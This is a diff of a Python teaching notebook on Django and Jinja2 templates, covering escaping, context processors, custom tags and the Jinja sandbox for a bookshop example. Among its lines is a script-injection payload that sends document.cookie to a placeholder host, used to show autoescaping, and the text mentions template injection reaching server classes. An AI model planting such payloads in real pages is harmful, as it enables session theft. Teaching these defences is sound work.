@@ -33,7 +33,7 @@ from django.test import Client, RequestFactory, override_settings
 from django.test.html import parse_html
 from django.urls import reverse
 from django.utils.functional import SimpleLazyObject
-from django.utils.html import conditional_escape, format_html, format_html_join
+from django.utils.html import escape, format_html, format_html_join
 from django.utils.safestring import mark_safe
 from jinja2.sandbox import SandboxedEnvironment
 from reviews.models import Review
@@ -60,11 +60,14 @@ def render(source, **values):
 
 
 emma = Book.objects.select_related("author").get(slug="emma")
-letter = "Dear {{ name|title }},{# not sent #}\n{% if book.in_print %}{{ book.title }} by {{ book.author }} is here.{% endif %}"
-print(render(letter, name="mira", book=emma))
+letter = """Dear {{ name|title }},{# not sent #}
+{% if book.in_print %}{{ book.title }} by {{ book.author }} is here.{% endif %}"""
+print(render(letter, name="mira & tomas", book=emma))
 
 # %% [markdown]
-# Now somebody puts a script into the shop's search, and the page repeats what was asked for. Does the script arrive as a script?
+# The comment. And the letter was escaped like a page: for plain text, switch that off with
+# [`autoescape`](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#autoescape). Now somebody puts a script into the shop's search, and
+# the page repeats what was asked for. Does it arrive as a script?
 
 # %%
 attempt = "<script>fetch('//thief.example/?' + document.cookie)</script>"
@@ -109,8 +112,9 @@ source = "[{{ book.titel }}] [{{ user.profile.city }}] [{{ book.price_on }}] [{{
 print(render(source, book=emma, user=tomas))
 
 # %% [markdown]
-# Only the last was found, and called. `string_if_invalid` makes the holes visible. It is for an hour of debugging, because filters are
-# skipped too, and templates that rely on the silence, the admin's among them, break:
+# Only the last was found, and called. `string_if_invalid` makes the holes visible. It is
+# [for debugging only](https://docs.djangoproject.com/en/stable/ref/templates/api/#how-invalid-variables-are-handled), because filters are skipped
+# too, and templates that rely on the silence break:
 
 # %%
 loud = Engine(string_if_invalid="?? %s ??")
@@ -143,7 +147,8 @@ print(shop.get_template("book.html").render(Context({"book": emma})))
 # It is not rendered. `block.super` is what the parent had there. `include` hands the whole context on, unless `only` says otherwise:
 # the brackets are empty.
 #
-# Last, a link to the next page that keeps the search. `querystring` (5.1) needs the request, so a plain `Context` will not do:
+# Last, a link to the next page that keeps the search. `querystring` (5.1) starts from the parameters of the request, so a plain
+# `Context` will not do:
 
 # %%
 request = RequestFactory().get("/search/", {"q": "emma & co", "page": "1"})
@@ -167,8 +172,6 @@ print(render(source, title="<b>"))
 # cause is text that was escaped when it was stored. Store what people type, escape what you show:
 
 # %%
-from django.utils.html import escape
-
 for title in ("Dombey & Son", "Dombey &amp; Son", escape("Dombey & Son")):
     print(render("{{ title }}", title=title))
 
@@ -176,7 +179,7 @@ for title in ("Dombey & Son", "Dombey &amp; Son", escape("Dombey & Son")):
 # The second was escaped twice. The third was not, because what `escape()` returns is marked as safe, and that is all that `|safe` does:
 # it makes a promise about the origin of a value.
 
-# %% [markdown]
+# %% [markdown] reason="Three questions, each with a full answer."
 # **Asked next**
 #
 # - *How does the dot in `{{ a.b }}` look up?* `a["b"]`, then `a.b`, then `a[b]` with a number
@@ -315,8 +318,8 @@ for name, processor in ways.items():
     print(name, "· unused", three_pages(processor), "· used twice", three_pages(processor, menu))
 
 # %% [markdown]
-# A function is called at each mention. A queryset keeps its rows, but `genres.count` and `genres.first` still ask on their own. The shop's
-# processor wraps the number of copies in the cart in a `SimpleLazyObject`.
+# Three pages, so the function asks twice on each: it is called at every mention. A queryset keeps its rows. A `SimpleLazyObject` is for
+# values that are no querysets; the shop's processor wraps the number of copies in the cart in one.
 
 # %% [markdown]
 # **The trap.** "`context` is the general name, but you can give any other." Your variable may have any name; the parameter may not. And
@@ -343,7 +346,7 @@ values, name = {"shop_name": "Annex"}, engines["django"].from_string("{{ shop_na
 print(name.render(values, request))
 print(Template("{{ shop_name }}").render(RequestContext(request, values)))
 
-# %% [markdown]
+# %% [markdown] reason="Three questions, each with a full answer."
 # **Asked next**
 #
 # - *How do you make a processor lazy?* Return a queryset or a `SimpleLazyObject`, as above. What only some pages need is not a processor's: a
@@ -351,7 +354,7 @@ print(Template("{{ shop_name }}").render(RequestContext(request, values)))
 # - *Why is `{{ book.delete }}` harmless?* The method has `alters_data = True`, and the engine does not call such methods. A method that
 #   you write has no such mark until you set it: this till is emptied by looking at it.
 # - *What is in the context by default?* Without a request nothing but your names; with one, `csrf_token` and the processors of the
-#   setting, `request`, `user`, `perms` and `messages` among them. An inclusion tag gets none of it but `csrf_token`.
+#   setting, `request`, `user`, `perms` and `messages` among them. An inclusion tag sees none of these names unless it takes the context (Q18).
 
 # %%
 class Till:
@@ -411,20 +414,22 @@ quiz("Q16")
 # *What lifts it:* who escapes, what the sandbox is for, and whether rendering was the bottleneck at all.
 
 # %% [markdown]
-# **See it.** "The latest version is Jinja2", says a list. That is the name of the package; the project counts on. The bookshop has one page in
-# both engines. Is it the same page?
+# **See it.** "The latest version is Jinja2", says a list. That is the name of the package, whose version is 3. The bookshop has one page
+# in both engines. Is it the same page, as text and as HTML?
 
 # %%
-django_page, jinja_page = (Client().get(path).content.decode() for path in ("/catalogue/", "/catalogue/jinja2/"))
-print(version("jinja2").startswith("3."), parse_html(django_page) == parse_html(jinja_page))
+paths = "/catalogue/", "/catalogue/jinja2/"
+django_page, jinja_page = (Client().get(path).content.decode() for path in paths)
+print(version("jinja2").startswith("3."))
+print(django_page == jinja_page, parse_html(django_page) == parse_html(jinja_page))
 
 # %% [markdown]
-# Equal as HTML; the bytes differ in white space and in how a quote is escaped. Now what the two languages can say. Which of these does
-# Django's refuse?
+# Equal as HTML; white space differs. Now what the two languages can say. Which of these does Django's refuse?
 
 # %%
 author = Author.objects.get(name="Jane Austen")
-for source in ("{{ author.name|upper }}", "{{ 2 * author.books.count() }}", "{{ author.books.filter(language='English')|list|length }}"):
+sources = "{{ author.name|upper }}", "{{ 2 * author.books.count() }}", "{{ author.books.filter(in_print=True).count() }}"
+for source in sources:
     for engine in ("jinja2", "django"):
         try:
             print(engine, engines[engine].from_string(source).render({"author": author}))
@@ -432,8 +437,8 @@ for source in ("{{ author.name|upper }}", "{{ 2 * author.books.count() }}", "{{ 
             print(engine, type(error).__name__)
 
 # %% [markdown]
-# Jinja calls with arguments, so a template can run queries that no view knows of. It is a freedom to use with restraint. **Speed**, measured: a
-# loop with 500 numbers, the best of seven runs.
+# Jinja computes, and calls with arguments, so a template can filter and count in queries that no view knows of: a freedom to use with
+# restraint. **Speed**, measured: a loop over 500 numbers, the best of seven runs.
 
 # %%
 def best(step, number=20):
@@ -460,7 +465,8 @@ print("the gain on the page is less than half of that in the loop:", page_ratio 
 # %%
 for undefined in (jinja2.Undefined, jinja2.DebugUndefined, jinja2.StrictUndefined):
     try:
-        print(undefined.__name__, "·", jinja2.Environment(undefined=undefined).from_string("[{{ titel }}]").render())
+        template = jinja2.Environment(undefined=undefined).from_string("[{{ titel }}]")
+        print(undefined.__name__, "·", template.render())
     except jinja2.UndefinedError as error:
         print(undefined.__name__, "·", error)
 
@@ -494,8 +500,9 @@ except jinja2.exceptions.SecurityError as error:
 
 # %% [markdown]
 # From any string to every class of the process: whoever may write your templates may run your server. Django has no sandbox, and
-# [its templates](https://docs.djangoproject.com/en/stable/topics/templates/) are not for strangers either. Jinja's limits
-# [neither time nor memory](https://jinja.palletsprojects.com/en/stable/sandbox/). One more thing that it refuses, as Django's engine does, and plain Jinja does not:
+# [its templates](https://docs.djangoproject.com/en/stable/topics/templates/) are not for strangers either. Jinja's sandbox leaves it to
+# you to [limit time and memory](https://jinja.palletsprojects.com/en/stable/sandbox/). Methods that alter data it refuses, as Django's engine does,
+# and plain Jinja does not:
 
 # %%
 def cookery():
@@ -511,15 +518,15 @@ engines["jinja2"].from_string("{{ genre.delete() }}").render({"genre": cookery()
 print(cookery())
 reset()
 
-# %% [markdown]
+# %% [markdown] reason="Three questions, each with a full answer."
 # **Asked next**
 #
 # - *How do you give `url()` and `static()` to Jinja?* `OPTIONS["environment"]` names a function that gets the backend's options, makes the environment
 #   from them, and adds to its globals. Drop the options, and `autoescape` is gone. The shop's is in `config/jinja.py`.
 # - *Can both engines be used, and who wins for a name?* Yes. Django asks the engines in the order of `TEMPLATES`, and takes the first that
 #   finds the name; `using=` names one. Jinja's templates are in the folder `jinja2` of an app.
-# - *Is template speed your bottleneck?* Rarely. Measure the page first: mostly it is queries, and a fragment that is costly can be cached in either
-#   engine.
+# - *Is template speed your bottleneck?* Measure the page before you decide: more often it is queries, and another engine does not make them
+#   fewer. Then cache the costly fragment, and change the engine last.
 
 # %%
 def url(name, *args, **kwargs):
@@ -700,7 +707,7 @@ print(render("{{ value|twice_unmarked }}", value=mark_safe("<b>Emma</b>")))
 # %%
 @register.filter(needs_autoescape=True)
 def first_letter(text, autoescape=True):
-    cleaned = conditional_escape if autoescape else str
+    cleaned = escape if autoescape else str
     return mark_safe(f"<big>{cleaned(text[0])}</big>{cleaned(text[1:])}")
 
 
@@ -714,20 +721,32 @@ print(render("{% autoescape off %}{{ it|first_letter }}{% endautoescape %}", it=
 # %%
 site = scratch("mysite")
 site.output("python manage.py startapp books")
-library = "from django.template import Library\n\nregister = Library()\nregister.simple_tag(lambda: 'found', name='where')\n"
-site.write("books/templatetags/shelf.py", library)
-page = "from django.template import Context, Template as T; print(T('{% load shelf %}{% where %}').render(Context()))"
-for apps in ("    'books',\n", ""):
-    site.write("mysite/shop.py", f"from .settings import *\nINSTALLED_APPS = [*INSTALLED_APPS,\n{apps}]")
-    printed = site.output(f'python manage.py shell --verbosity 0 --settings mysite.shop -c "{page}"')
-    print(printed == "found", "'shelf' is not a registered tag library" in printed)
+site.write("books/templatetags/shelf.py", """
+from django.template import Library
+
+register = Library()
+register.simple_tag(lambda: "found", name="where")
+""")
+
+# %%
+site.write("page.py", """
+import django
+from django.template import Context, Template
+
+django.setup()
+print(Template("{% load shelf %}{% where %}").render(Context()))
+""")
+site.write("mysite/shop.py", "from .settings import *\nINSTALLED_APPS += ['books']")
+for module in ("mysite.shop", "mysite.settings"):
+    lines = site.output("python page.py", DJANGO_SETTINGS_MODULE=module).splitlines()
+    print(next(line for line in lines if line == "found" or "not a registered" in line))
 
 # %% [markdown]
 # Write the file all the same: tools that pack an app, such as
 # [setuptools](https://setuptools.pypa.io/en/latest/userguide/package_discovery.html), may look for it, and the package comes without
 # your tags. Where a library "is not registered", look first at `INSTALLED_APPS`, then at the server, which has to be started anew.
 
-# %% [markdown]
+# %% [markdown] reason="Three questions, each with a full answer."
 # **Asked next**
 #
 # - *Why must a node not keep anything of a rendering on `self`?* The compiled template, with its nodes, is cached and shared by all threads.
@@ -780,8 +799,8 @@ for tag in ("greeting", "careful"):
     print(tag, "· own name for", sum(two_visitors(tag).values()), "of 2")
 
 # %% [markdown]
-# One of two read the name of the other. In a shop that is somebody's address. No load is needed to see it in a test: render the
-# same template twice, and compare.
+# One of two read the name of the other. In a shop that is somebody's address. A test needs no threads for it: let a second rendering
+# begin in the middle of the first, as exercise 06.10 does.
 
 # %% [markdown]
 # **Versions.** `simple_block_tag`, and mappings in `format_html_join`, are in both. 6.0 makes `format_html` without arguments an error, 6.1 adds the tag
